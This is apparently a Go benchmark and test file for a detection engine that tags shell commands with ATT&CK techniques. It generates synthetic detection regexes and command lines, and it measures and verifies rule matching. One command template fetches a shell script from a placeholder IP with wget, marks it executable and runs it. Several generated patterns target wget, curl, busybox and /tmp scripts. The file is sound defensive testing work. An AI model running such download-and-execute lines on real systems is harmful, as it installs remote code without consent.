package engine

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"

	"ttpctl/internal/event"
	"ttpctl/internal/rounds"
)

// commonWords are what shell commands and the patterns about them are full of.
var commonWords = []string{"wget", "curl", "chmod", "/tmp", "echo", "cat", "rm -rf", "busybox", "/etc/", "sh", "bash", "find", "grep", "ls", "uname", "/bin/"}

// packPatterns returns n patterns as users' packs of thousands have them: most with a
// rare word each, and an eighth with nothing but common words, which nearly every
// event has some of. Deterministic.
func packPatterns(n int) []string {
	rng := rand.New(rand.NewPCG(8, 5))
	out := make([]string, n)
	for i := range out {
		out[i] = packPattern(rng)
	}
	return out
}

func packPattern(rng *rand.Rand) string {
	word := func() string {
		b := make([]byte, 4+rng.IntN(5))
		for i := range b {
			b[i] = "abcdefghijklmnopqrstuvwxyz0123456789"[rng.IntN(36)]
		}
		return string(b)
	}
	c, r := commonWords[rng.IntN(len(commonWords))], rng.Float64()
	path := c[0] == '/'
	switch {
	case r < .12 && path:
		return fmt.Sprintf(`%s\S*[0-9]{%d,}\b`, c, 2+rng.IntN(3))
	case r < .12:
		return fmt.Sprintf(`\b%s\s+-[a-z]{1,%d}\s+\S*[0-9]{%d,}`, c, 2+rng.IntN(3), 1+rng.IntN(3))
	case r < .30 && path:
		return fmt.Sprintf(`(?i)%s\S*%s`, c, word())
	case r < .30:
		return fmt.Sprintf(`(?i)\b%s\b.*\b%s\b`, c, word())
	case r < .50:
		return fmt.Sprintf(`/(?:tmp|var|dev/shm)/%s(?:\.sh|\.py)?\b`, word())
	case r < .70:
		return fmt.Sprintf(`\b(?:%s|%s)\s+-[a-z]+`, word(), word())
	case r < .85:
		return fmt.Sprintf(`^%s(?:\s|$)`, word())
	}
	return fmt.Sprintf(`(?i)%s\.(?:com|net|org)/[a-z0-9]+`, word())
}

func packSources(patterns []string) []Source {
	srcs := make([]Source, len(patterns))
	for i, p := range patterns {
		id := fmt.Sprintf("R%05d", 50000+i)
		srcs[i] = Source{Name: id + ".yaml", Data: fmt.Appendf(nil,
			"rule_id: %s\nrule_version: 1\nname: g_%d\ndescription: generated\napplies_to: [command]\nmatch: {pattern: '%s'}\nemits:\n  - {tactic: TA0007, technique_id: T1082, confidence: 0.7}\n",
			id, i, p)}
	}
	return srcs
}

// packLines returns n distinct command lines, 47 bytes on average. At 1,000 rules of
// packPatterns a tenth of them match.
func packLines(n int) []string {
	rng := rand.New(rand.NewPCG(4, 6))
	shapes := []string{
		`find /home/W -name "*.W" -type f`, `find . -name "W*" | xargs grep -l "W"`, `ls -la /var/W/W`, `ls -l W#`, `cat /etc/W | grep -i W`, `grep -r "W" /usr/share/W`,
		`cd /W; wget http://192.0.2.#/W.sh; chmod +x W.sh; sh W.sh`, `uname -s -v -n -r -m`, `echo "W W" > /W/W.txt`, `/bin/busybox W`, `rm -rf /tmp/W#`, `chmod -R 755 /var/www/W`,
		`du -sh /W/* | sort -rh | head -#`, `tar -czf W.tar.gz W/ --exclude=W`, `awk '{print $#}' W.log | sort | uniq -c`, `W="W"; echo ${W:#}`, `ps aux | grep W | awk '{print $2}'`,
		`rsync -av W/ user@198.51.100.#:/srv/W`, `sed -i 's/W/W/g' $(find . -type f)`, `mkdir -p W/W && cd W`, `free -m | grep Mem | awk '{print $2 ,$3, $4}'`, `whoami; W`,
	}
	words := []string{"project", "report", "Data", "backup", "config", "file", "log", "index", "server", "Music", "photos", "test", "main", "lib", "user", "archive"}
	lines := make([]string, n)
	for i := range lines {
		var b strings.Builder
		for _, c := range shapes[rng.IntN(len(shapes))] {
			switch c {
			case 'W':
				b.WriteString(words[rng.IntN(len(words))])
			case '#':
				fmt.Fprintf(&b, "%d", rng.IntN(250))
			default:
				b.WriteRune(c)
			}
		}
		lines[i] = fmt.Sprintf("%s %x", b.String(), i)
	}
	return lines
}

func packEvents(lines []string) []*event.Event {
	evs := make([]*event.Event, len(lines))
	for i, line := range lines {
		evs[i] = commandEvent(line)
	}
	return evs
}

// BenchmarkPack says what events cost by the number of rules, in three steps: which
// rules the index admits; which of these hold, and where; and with the tags made.
// Nothing is remembered from one text to the next.
func BenchmarkPack(b *testing.B) {
	evs := packEvents(packLines(4000))
	for _, n := range []int{25, 250, 1000, 10_000} {
		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) {
			rs := quickCompile(b, packSources(packPatterns(n)))
			snap, sc, ix := NewSnapshot(rs, nil, testNow), NewScratch(), rs.indexOf(event.KindCommand)
			for name, do := range map[string]func(*event.Event) int{
				"admit": func(ev *event.Event) int { return len(ix.admit(ev, sc)) },
				"match": func(ev *event.Event) (held int) {
					for _, i := range ix.admit(ev, sc) {
						if sc.match(rs.rules[i], allBranches, ev) {
							held++
						}
					}
					return held
				},
				"tags": func(ev *event.Event) int {
					return len(snap.judge(nil, ev, testNow, sc, ix.admit(ev, sc)))
				},
			} {
				b.Run(name, func(b *testing.B) { benchEvents(b, evs, do) })
			}
		})
	}
}

func benchEvents(b *testing.B, evs []*event.Event, do func(*event.Event) int) {
	for _, ev := range evs {
		do(ev) // what is built when it is first needed is there
	}
	b.ReportAllocs()
	i, found := 0, 0
	for b.Loop() {
		found += do(evs[i%len(evs)])
		i++
	}
	b.ReportMetric(float64(found)/float64(i), "found/event")
}

func quickCompile(b *testing.B, srcs []Source) *Ruleset {
	b.Helper()
	cfg := testConfig()
	cfg.Quick = true
	rs, diags := Compile(srcs, cfg)
	if diags.HasErrors() {
		b.Fatal(diags)
	}
	return rs
}

// BenchmarkPackLoop is what BenchmarkPack is a multiple of: each pattern on each text.
func BenchmarkPackLoop(b *testing.B) {
	lines := packLines(4000)
	for _, n := range []int{25, 1000} {
		var res []*regexp.Regexp
		for _, p := range packPatterns(n) {
			res = append(res, regexp.MustCompile(p))
		}
		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) {
			i := 0
			for b.Loop() {
				for _, re := range res {
					re.MatchString(lines[i%len(lines)])
				}
				i++
			}
		})
	}
}

// BenchmarkPackBuild is a snapshot of all rules, from compiled rules.
func BenchmarkPackBuild(b *testing.B) {
	srcs := packSources(packPatterns(10_000))
	for b.Loop() {
		b.StopTimer()
		rs := quickCompile(b, srcs)
		b.StartTimer()
		NewSnapshot(rs, nil, testNow).ruleset.indexOf(event.KindCommand)
	}
}

// TestPackIsMatched: the benchmark measures what it says. Rules are admitted, events
// match, and they match as package regexp says.
func TestPackIsMatched(t *testing.T) {
	lines := packLines(300)
	for _, n := range []int{25, 1000} {
		patterns := packPatterns(n)
		rs, sc := mustCompile(t, packSources(patterns)), NewScratch()
		var want, got []string
		for i, p := range patterns {
			re := regexp.MustCompile(p)
			for _, line := range lines {
				if loc := re.FindStringIndex(line); loc != nil {
					want = append(want, fmt.Sprintf("R%05d %d:%d %s", 50000+i, loc[0], loc[1], line))
				}
			}
		}
		for _, ev := range packEvents(lines) {
			for _, i := range rs.indexOf(event.KindCommand).admit(ev, sc) {
				if r := rs.rules[i]; sc.match(r, allBranches, ev) {
					span := &sc.hit.span
					got = append(got, fmt.Sprintf("%s %d:%d %s", r.ID, span.start, span.end, span.text))
				}
			}
		}
		if len(want) < len(lines)/50 {
			t.Errorf("%d matches of %d lines at %d rules: too few to measure", len(want), len(lines), n)
		}
		slices.Sort(want)
		slices.Sort(got)
		if d := rounds.Diff(want, got); d != "" {
			t.Errorf("matches at %d rules differ (-want +got):\n%s", n, d)
		}
	}
}
